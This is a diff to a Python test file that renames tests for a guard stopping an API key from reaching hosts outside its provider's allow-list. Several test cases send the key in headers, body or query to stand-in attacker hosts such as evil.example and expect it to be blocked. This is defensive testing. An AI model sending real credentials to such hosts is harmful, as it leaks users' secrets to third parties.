@@ -52,7 +52,7 @@ def call(base_url: str = "", model: str = "m") -> Call:
         "https://model-abc.api.baseten.co/environments/production/sync",
     ],
 )
-def test_the_key_goes_to_the_provider(url: str) -> None:
+def test_key_is_sent_to_the_hosts_of_its_provider(url: str) -> None:
     with guarded(call(), "baseten"):
         assert httpx.post(url, headers={"authorization": f"Bearer {KEY}"}).status_code == 200
 
@@ -81,7 +81,7 @@ def test_the_key_goes_to_the_provider(url: str) -> None:
         ("unknown-provider", "https://api.openai.com/v1"),
     ],
 )
-def test_only_the_exact_hosts_of_the_table_get_a_key(provider: str, url: str) -> None:
+def test_key_is_held_back_from_hosts_not_in_the_table(provider: str, url: str) -> None:
     asked = replace(call(), settings=(("account_id", "mine"),))
     with guarded(asked, provider), pytest.raises(KeyHeldBackError):
         httpx.post(url, headers={"authorization": f"Bearer {KEY}"})
@@ -99,14 +99,14 @@ def test_only_the_exact_hosts_of_the_table_get_a_key(provider: str, url: str) ->
         ("ollama", "http://localhost:11434/api/chat"),
     ],
 )
-def test_what_litellm_makes_an_address_of_gets_the_key(provider: str, url: str) -> None:
+def test_key_is_sent_to_hosts_that_litellm_derives_from_settings(provider: str, url: str) -> None:
     settings = (("account_id", "mine"), ("gigachat_auth_url", "https://tokens.example/oauth"))
     with guarded(replace(call(), settings=settings), provider):
         assert httpx.post(url, headers={"authorization": f"Bearer {KEY}"}).status_code == 200
 
 
 @pytest.mark.parametrize("header", ["Authorization", "X-Api-Key", "api-key", "x-goog-api-key", "X-Amz-Security-Token"])
-def test_what_a_library_signed_in_with_counts_as_a_key(header: str) -> None:
+def test_credential_headers_added_by_libraries_are_held_back(header: str) -> None:
     """A call that found its credentials on the machine has no secret that is known here."""
     with guarded(replace(call(), key=""), "bedrock"):
         assert httpx.get("https://elsewhere.example/").status_code == 200
@@ -118,7 +118,7 @@ def test_what_a_library_signed_in_with_counts_as_a_key(header: str) -> None:
     "url",
     ["https://model-x.evil.example/.api.baseten.co/", "https://baseten.co.evil.example/", "https://api.openai.com/v1"],
 )
-def test_a_model_id_that_names_a_host_sends_no_key_there(url: str) -> None:
+def test_key_is_held_back_from_host_named_in_model_id(url: str) -> None:
     with guarded(call(), "baseten"), pytest.raises(KeyHeldBackError, match="a key for another address") as caught:
         httpx.post(url, headers={"authorization": f"Bearer {KEY}"})
     assert KEY not in str(caught.value)
@@ -133,19 +133,19 @@ def test_a_model_id_that_names_a_host_sends_no_key_there(url: str) -> None:
     ],
     ids=["header", "body", "address"],
 )
-def test_wherever_it_stands(asked: dict[str, Any]) -> None:
+def test_key_is_held_back_in_header_body_and_query(asked: dict[str, Any]) -> None:
     with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError):
         httpx.post("https://evil.example/", **asked)
 
 
-def test_an_address_that_was_given_is_the_only_one() -> None:
+def test_configured_address_is_the_only_host_that_gets_the_key() -> None:
     with guarded(call("https://gateway.example/v1"), "openai"):
         assert httpx.post("https://gateway.example/v1/x", headers={"authorization": KEY}).status_code == 200
         with pytest.raises(KeyHeldBackError):
             httpx.post("https://api.openai.com/v1/x", headers={"authorization": KEY})
 
 
-def test_what_holds_no_key_may_go_anywhere() -> None:
+def test_requests_without_key_are_allowed_to_any_host() -> None:
     with guarded(call(), "openai"):
         assert httpx.get("https://elsewhere.example/").status_code == 200
 
@@ -156,16 +156,16 @@ async def _ask() -> None:
             await client.post("https://evil.example", headers={"authorization": KEY})
 
 
-def test_calls_that_wait_are_held_back_too() -> None:
+def test_async_requests_are_held_back_too() -> None:
     asyncio.run(_ask())
 
 
-def test_a_key_that_is_exchanged_goes_to_the_server_that_exchanges_it() -> None:
+def test_key_is_sent_to_the_token_server_of_its_provider() -> None:
     with guarded(call("https://us-south.ml.cloud.ibm.com"), "watsonx"):
         assert httpx.post("https://iam.cloud.ibm.com/identity/token", data={"apikey": KEY}).status_code == 200
 
 
-def test_the_key_of_an_endpoint_is_exchanged_by_its_own_company_only() -> None:
+def test_endpoint_key_is_sent_only_to_token_server_of_its_own_provider() -> None:
     """A history that names another protocol would send the key to the token server of that."""
     mine = Endpoint("e", "litellm", "Mine", "https://gateway.example/v1", provider="gigachat")
     token_server = "https://ngw.devices.sberbank.ru:9443/api/v2/oauth"
@@ -176,7 +176,7 @@ def test_the_key_of_an_endpoint_is_exchanged_by_its_own_company_only() -> None:
         assert httpx.post(token_server, headers={"authorization": f"Basic {KEY}"}).status_code == 200
 
 
-def test_what_was_held_back_is_said_as_what_it_is() -> None:
+def test_held_back_key_is_reported_as_bad_address() -> None:
     with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError) as caught:
         httpx.post("https://evil.example", headers={"authorization": KEY})
     # The form in which LiteLLM passes it on.
@@ -187,7 +187,7 @@ def test_what_was_held_back_is_said_as_what_it_is() -> None:
 
 
 @pytest.mark.deep(only=True)
-def test_the_hosts_of_the_table_are_all_that_litellm_needs(figure: Any) -> None:
+def test_keys_are_held_back_only_for_providers_without_address(figure: Any) -> None:
     env = {**os.environ, "AWS_EC2_METADATA_DISABLED": "true", "LITELLM_LOCAL_MODEL_COST_MAP": "True"}
     probe = [sys.executable, "-m", "tests.engine.key_hosts_probe"]
     told = subprocess.run(probe, capture_output=True, env=env, check=True, text=True).stdout
